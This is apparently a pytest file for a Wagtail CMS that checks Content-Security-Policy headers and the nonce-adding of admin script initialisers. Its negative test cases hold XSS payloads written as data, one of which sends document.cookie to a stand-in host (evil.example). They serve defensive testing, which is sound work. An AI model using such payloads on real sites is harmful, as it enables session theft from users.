"""The Content-Security-Policy header on every kind of HTML page (cms/csp.py).

Public and member pages: script-src 'self' and nothing else, so no inline
script could run there even if one were written into a page, and the pages
carry none. Admin pages: the same policy, with styles inline allowed and a
nonce that only Wagtail's own initialisers receive. Files keep their sandbox.
The browser test (tests/browser/test_csp.py) shows the pages still work.
"""

import os
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from unittest import mock

import pytest
import wagtail_factories

from django.test import override_settings
from django.utils import translation

from cms.csp import add_nonces
from docs_library.circulation import assignments
from home import roles
from tests.docs_library import samples
from tests.docs_library.lifecycle import circular, days, library_of
from tests.factories import (
    AnnouncementFactory,
    AnnouncementIndexFactory,
    DocumentPageFactory,
    UserFactory,
    library_document,
)

ROOT = Path(__file__).resolve().parent.parent
HEADER = "Content-Security-Policy"
# What every page's policy says, whatever else it adds.
REQUIRED = {
    "default-src": ["'self'"],
    "img-src": ["'self'", "data:"],
    "object-src": ["'none'"],
    "base-uri": ["'self'"],
    "frame-ancestors": ["'self'"],
    "form-action": ["'self'"],
}


def directives(header: str) -> dict[str, list[str]]:
    policy = {}
    for part in header.split(";"):
        name, *values = part.split()
        policy[name] = values
    return policy


class Scripts(HTMLParser):
    """The inline scripts a browser would run, and inline event handlers."""

    def __init__(self, html):
        super().__init__()
        self.inline, self.handlers, self._open = [], [], None
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.handlers += [f"<{tag} {name}>" for name in attrs if name.startswith("on")]
        runs = attrs.get("type") in (None, "", "text/javascript", "module")
        if tag == "script" and "src" not in attrs and runs:
            self._open = {"nonce": attrs.get("nonce"), "body": ""}

    def handle_data(self, data):
        if self._open is not None:
            self._open["body"] += data

    def handle_endtag(self, tag):
        if tag == "script" and self._open is not None:
            self.inline.append(self._open)
            self._open = None


@pytest.fixture
def party(tree):
    region, primary = tree["region"], tree["primary"]
    library = library_of(region, title="Облыстық кеңестің шешімдері")
    main = library_document(
        samples.kazakh_txt(),
        "Хаттама.txt",
        title="Хаттама",
        collection=roles.collection_for(library),
    )
    record = DocumentPageFactory(parent=library, title="Жиналыс туралы шешім", main_file=main)
    letter = circular(library, addressing="level", level="primary", deadline=days(14))
    index = AnnouncementIndexFactory(parent=region, title="Облыс жаңалықтары")
    announcement = AnnouncementFactory(parent=index, title="Облыстық семинар")
    wagtail_factories.ImageFactory(title="Семинар суреті")
    editor = UserFactory(username="csp.editor", password="editor-pass")
    member = UserFactory(username="csp.member", password="member-pass")
    superuser = UserFactory(username="csp.root", is_superuser=True, is_staff=True)
    roles.grant(roles.EDITOR, editor, region)
    roles.grant(roles.READER, member, primary)
    assignment, _created = assignments.issue(
        letter,
        editor,
        text="Жиналыс өткізіп, хаттаманы жіберу",
        deadline=days(10),
        executors=[primary],
    )
    return {
        **tree,
        "library": library,
        "record": record,
        "file": main,
        "circular": letter,
        "assignment": assignment,
        "execution": assignment.executions.get(),
        "index": index,
        "announcement": announcement,
        "editor": editor,
        "member": member,
        "superuser": superuser,
    }


def url_of(page):
    with translation.override("kk"):
        return page.get_url()


def public_pages(party):
    return [
        "/kk/",
        "/ru/",
        "/en/",
        url_of(party["region"]),
        url_of(party["district"]),
        url_of(party["primary"]),
        url_of(party["library"]),
        url_of(party["library"]) + "?view=archive",
        url_of(party["record"]),
        url_of(party["index"]),
        url_of(party["announcement"]),
        "/kk/search/?q=шешім",
        "/kk/accounts/login/",
        "/kk/accounts/password-reset/",
    ]


def member_pages(party):
    return [
        "/kk/circulars/",
        f"/kk/circulars/inbox/{party['primary'].pk}/",
        f"/kk/circulars/executions/{party['execution'].pk}/",
        "/kk/circulars/mail/",
        "/kk/search/archive/?q=шешім",
        url_of(party["circular"]),
    ]


def author_pages(party):
    return [
        f"/kk/circulars/sent/{party['circular'].pk}/",
        f"/kk/circulars/assign/{party['circular'].pk}/",
        f"/kk/circulars/assignments/{party['assignment'].pk}/",
    ]


def admin_pages(party):
    return [
        "/admin/",
        f"/admin/pages/{party['region'].pk}/",
        f"/admin/pages/{party['record'].pk}/edit/",
        f"/admin/pages/{party['announcement'].pk}/edit/",
        f"/admin/pages/add/docs_library/documentpage/{party['library'].pk}/",
        "/admin/documents/",
        f"/admin/documents/edit/{party['file'].pk}/",
        "/admin/documents/chooser/",
        "/admin/reports/site-history/",
        "/admin/reports/aging-pages/",
        "/admin/pages/search/?q=шешім",
        "/admin/account/",
    ]


def get_html(client, url, status=200):
    response = client.get(url)
    assert response.status_code == status, f"{url} answered {response.status_code}"
    return response


def assert_strict(response, url):
    """The site's policy: nothing inline may run, and nothing inline is there."""
    assert HEADER in response, f"{url} has no {HEADER}"
    policy = directives(response[HEADER])
    for name, values in REQUIRED.items():
        assert policy.get(name) == values, f"{url}: {name} is {policy.get(name)}"
    assert policy["script-src"] == ["'self'"], f"{url}: script-src {policy['script-src']}"
    assert policy["style-src"] == ["'self'"], f"{url}: style-src {policy['style-src']}"
    scripts = Scripts(response.content.decode())
    assert scripts.inline == [], f"{url} has inline scripts: {scripts.inline}"
    assert scripts.handlers == [], f"{url} has inline event handlers: {scripts.handlers}"


def assert_admin(response, url):
    """The admin's policy: no inline script but Wagtail's own, which carry the nonce."""
    assert HEADER in response, f"{url} has no {HEADER}"
    policy = directives(response[HEADER])
    for name, values in REQUIRED.items():
        assert policy.get(name) == values, f"{url}: {name} is {policy.get(name)}"
    assert "'unsafe-inline'" not in policy["script-src"], url
    assert "'unsafe-eval'" not in policy["script-src"], url
    nonces = [value for value in policy["script-src"] if value.startswith("'nonce-")]
    scripts = Scripts(response.content.decode())
    assert scripts.handlers == [], f"{url} has inline event handlers: {scripts.handlers}"
    for script in scripts.inline:
        assert nonces == [f"'nonce-{script['nonce']}'"], f"{url}: {script}"


@pytest.mark.django_db
def test_public_pages_and_the_404_allow_no_inline_script(client, party):
    for url in public_pages(party):
        assert_strict(get_html(client, url), url)
    assert_strict(get_html(client, "/kk/жоқ-бет/", status=404), "404")
    assert_admin(get_html(client, "/admin/login/"), "/admin/login/")


@pytest.mark.django_db
def test_the_500_page_allows_no_inline_script(client, party):
    client.raise_request_exception = False
    with mock.patch("search.views._search", side_effect=RuntimeError("broken")):
        response = client.get("/kk/search/?q=шешім")
    assert response.status_code == 500
    assert_strict(response, "500")


@pytest.mark.django_db
def test_member_pages_allow_no_inline_script(client, party):
    client.force_login(party["member"])
    for url in member_pages(party):
        assert_strict(get_html(client, url), url)
    client.force_login(party["editor"])
    for url in author_pages(party):
        assert_strict(get_html(client, url), url)


@pytest.mark.django_db
@pytest.mark.parametrize("who", ["editor", "superuser"])
def test_admin_pages_run_only_wagtails_initialisers(client, party, who):
    client.force_login(party[who])
    urls = admin_pages(party)
    if who == "superuser":
        urls += [
            "/admin/images/",
            "/admin/users/",
            "/admin/reports/locked/",
            f"/admin/sharing/{party['region'].pk}/",
            f"/admin/documents/{party['file'].pk}/versions/",
            f"/admin/documents/archive/{party['record'].pk}/",
        ]
    for url in urls:
        assert_admin(get_html(client, url), url)


@pytest.mark.django_db
def test_the_record_editor_has_wagtails_initialisers_and_each_is_nonced(client, party):
    """The page the admin's browser test opens: choosers, date fields, inline panels."""
    client.force_login(party["editor"])
    response = get_html(client, f"/admin/pages/{party['record'].pk}/edit/")
    bodies = " ".join(script["body"] for script in Scripts(response.content.decode()).inline)
    for initialiser in ("new DocumentChooser(", "initDateChooser(", "new InlinePanel("):
        assert initialiser in bodies
    assert "'nonce-" in response[HEADER]


@pytest.mark.django_db
def test_files_keep_their_sandbox(client, party):
    response = client.get(party["file"].url)
    assert response.status_code == 200
    assert response[HEADER] == "default-src 'none'; sandbox"


NONCE = "bm9uY2U="


@pytest.mark.parametrize(
    "script",
    [
        '<script>new DocumentChooser("id_main_file", {"modalUrl": "/admin/documents/"});</script>',
        '<script>initDateChooser("id_date", {"dayOfWeekStart": 0, "format": "Y-m-d"});</script>',
        '<script>createTaskChooser("id_task");</script>',
        '<script type="text/javascript">initTimeChooser("id_time", {});</script>',
        "<script>\n    (function() {\n        var panel = new InlinePanel("
        'JSON.parse("{\\u0022formsetPrefix\\u0022: \\u0022id_attachments\\u0022}"));\n'
        "    })();\n</script>",
    ],
)
def test_wagtails_initialisers_get_the_nonce(script):
    assert add_nonces(script, NONCE) == script.replace("<script", f'<script nonce="{NONCE}"', 1)


@pytest.mark.parametrize(
    "script",
    [
        "<script>alert(document.cookie)</script>",
        '<script>initDateChooser("a"); fetch("//evil.example/" + document.cookie);</script>',
        '<script>new DocumentChooser("id", {"a": 1}, alert(1));</script>',
        '<script>new Function("alert(1)")();</script>',
        "<script>(function() { var panel = new InlinePanel("
        'JSON.parse("{}")); alert(1); })();</script>',
        '<script>(function() { var panel = new Function(JSON.parse("{}")); })();</script>',
        '<script src="/static/x.js"></script>',
        '<script type="application/json">{"a": 1}</script>',
        '<script type="module">initDateChooser("id", {});</script>',
        '<script data-src="/x.js">initDateChooser("id", {});</script>',
        '<script nonce="guessed">initDateChooser("id", {});</script>',
    ],
)
def test_anything_else_inline_gets_no_nonce(script):
    assert add_nonces(script, NONCE) == script


@pytest.mark.django_db
def test_report_only_sends_the_policy_without_enforcing_it(client, party):
    from django.conf import settings

    policy = settings.CONTENT_SECURITY_POLICY
    reporting = override_settings(
        CONTENT_SECURITY_POLICY=None, CONTENT_SECURITY_POLICY_REPORT_ONLY=policy
    )
    with reporting:
        response = client.get("/kk/")
    assert HEADER not in response
    assert directives(response[f"{HEADER}-Report-Only"])["script-src"] == ["'self'"]


@pytest.mark.parametrize(("value", "header"), [("", HEADER), ("true", f"{HEADER}-Report-Only")])
def test_the_report_only_switch_is_an_environment_variable(value, header):
    code = (
        "import django; django.setup(); from django.conf import settings; "
        "print(bool(getattr(settings, 'CONTENT_SECURITY_POLICY', None)), "
        "bool(getattr(settings, 'CONTENT_SECURITY_POLICY_REPORT_ONLY', None)))"
    )
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "cms.settings.test"}
    env["SANDYQ_CSP_REPORT_ONLY"] = value
    result = subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, env=env, capture_output=True, text=True, timeout=60
    )
    enforced, reported = result.stdout.split()
    assert (enforced, reported) == (
        ("False", "True") if header.endswith("Report-Only") else ("True", "False")
    )
